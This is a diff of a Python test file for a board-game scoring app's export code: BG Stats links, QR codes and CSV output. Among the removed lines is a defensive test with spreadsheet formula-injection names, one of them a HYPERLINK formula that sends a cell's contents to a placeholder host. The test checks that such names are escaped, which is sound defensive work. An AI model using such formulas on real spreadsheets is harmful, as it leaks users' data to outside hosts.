@@ -1,21 +1,15 @@
-"""CSV, JSON schemas and the BG Stats link."""
+"""The link that records a play in BG Stats."""
 
-import csv
-import io
 import json
 from datetime import UTC, datetime, timedelta, timezone
 from typing import Any
 from urllib.parse import unquote, urlsplit
 
-import jsonschema
-import pytest
-
-from scorer.cards import Deck
-from scorer.errors import RefusedInput
-from scorer.exchange import MODELS, bgstats_link, bgstats_play, qr_code, qr_picture, spreadsheet, to_csv
+from scorer.exchange.bgstats import bgstats_link, bgstats_play
+from scorer.exchange.qr import qr_code
+from scorer.exchange.spreadsheet import to_csv
 from scorer.gamefile import GameFile
 from scorer.result import Result, score
-from scorer.result.advice import advise
 from tests.scorer.games import eric, game, solo
 
 WHEN = datetime(2026, 11, 20, 20, 5, 9, tzinfo=timezone(timedelta(hours=1)))
@@ -23,45 +17,6 @@ WHEN = datetime(2026, 11, 20, 20, 5, 9, tzinfo=timezone(timedelta(hours=1)))
 
 def result(data: dict[str, Any] | None = None) -> Result:
     return score(GameFile.from_dict(data or game()))
-
-
-class TestCsv:
-    def rows(self, data: dict[str, Any] | None = None) -> list[dict[str, str]]:
-        return list(csv.DictReader(io.StringIO(to_csv(result(data)).removeprefix("\ufeff"))))
-
-    def test_a_row_a_player(self) -> None:
-        rita, eric = self.rows()
-        assert (rita["name"], rita["total"], rita["winner"]) == ("Rita", "17", "no")
-        assert (eric["corrupted_codices"], eric["b3"], eric["winner"]) == ("4", "-4", "yes")
-
-    def test_the_public_library_has_a_row(self) -> None:
-        assert [row["name"] for row in self.rows(solo())] == ["Igor", "Public library"]
-
-    def test_names_are_quoted(self) -> None:
-        assert self.rows(eric(name='Eric, "the" čtenář'))[1]["name"] == 'Eric, "the" čtenář'
-
-
-class TestSchemas:
-    def check(self, name: str, document: Any) -> None:
-        jsonschema.validate(document, MODELS[name].model_json_schema())
-
-    def test_game_files_fit_their_schema(self) -> None:
-        self.check("game", game())
-        self.check("game", solo())
-        with pytest.raises(jsonschema.ValidationError):
-            self.check("game", game(colour="red"))
-
-    def test_results_fit_their_schema(self) -> None:
-        self.check("result", result().to_json())
-        self.check("result", result(solo()).to_json())
-        self.check("flips", advise(GameFile.from_dict(game())).model_dump(mode="json"))
-
-    def test_the_house_deck_fits_its_schema(self) -> None:
-        self.check("deck", Deck.house().to_dict())
-
-    @pytest.mark.parametrize("name", MODELS)
-    def test_schemas_are_schemas(self, name: str) -> None:
-        jsonschema.Draft202012Validator.check_schema(MODELS[name].model_json_schema())
 
 
 class TestBgStats:
@@ -127,13 +82,6 @@ class TestBgStats:
         (player,) = bgstats_play(result(lost), WHEN)["players"]
         assert player["winner"] is False
 
-    def test_the_qr_code(self) -> None:
-        link = bgstats_link(result(), WHEN)
-        assert qr_picture(link, ".svg").startswith(b"<?xml")
-        assert qr_picture(link, "png").startswith(b"\x89PNG")
-        with pytest.raises(RefusedInput, match=r"\.svg, \.png or \.pdf"):
-            qr_picture(link, ".docx")
-
     def test_four_long_names_fit_into_a_qr_code(self) -> None:
         focuses = ("historic_volumes", "monster_manuals", "spells_potions", "fantastical_fictions")
         players = [
@@ -141,34 +89,6 @@ class TestBgStats:
             for i, focus in enumerate(focuses)
         ]
         assert not qr_code(bgstats_link(result(game(players=players)), WHEN)).is_micro
-
-    def test_a_link_too_long_for_a_qr_code(self) -> None:
-        with pytest.raises(RefusedInput, match="more than a QR code holds"):
-            qr_code("https://app.bgstatsapp.com/" + "x" * 3000)
-
-
-class TestSpreadsheets:
-    """CSV opens in a spreadsheet with a double click, whatever the language, and names are never formulas."""
-
-    @pytest.mark.parametrize(("edition", "mark"), [("en", ","), ("pt", ";"), ("fr", ";"), ("cs", ";")])
-    def test_a_table_opens_in_columns(self, edition: str, mark: str) -> None:
-        text = to_csv(result(eric(name="Jiří Řehoř") | {"edition": edition}))
-        assert text.encode("utf-8").startswith(b"\xef\xbb\xbf"), "Excel takes it for UTF-8"
-        lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=mark))
-        assert {len(line) for line in lines} == {17}
-        assert lines[2][2] == "Jiří Řehoř"
-        english = lines[0][0] == "form"
-        assert english == (edition == "en")
-
-    @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test?"&C2)', "+1+1", "-2+3", "@SUM(A1:A9)"])
-    def test_a_name_is_no_formula(self, name: str) -> None:
-        lines = list(csv.reader(io.StringIO(to_csv(result(eric(name=name))))))
-        assert lines[2][2] == f"'{name}"
-        assert spreadsheet([[f"\t{name}"], [f"\r{name}"]], "en").count("'") == 2
-
-    def test_numbers_stay_numbers(self) -> None:
-        assert spreadsheet([[-4, 1.5]], "en") == "\ufeff-4,1.5\n"
-        assert spreadsheet([[-4, 1.5]], "fr") == "\ufeff-4;1,5\n"
 
 
 class TestOnePlay:
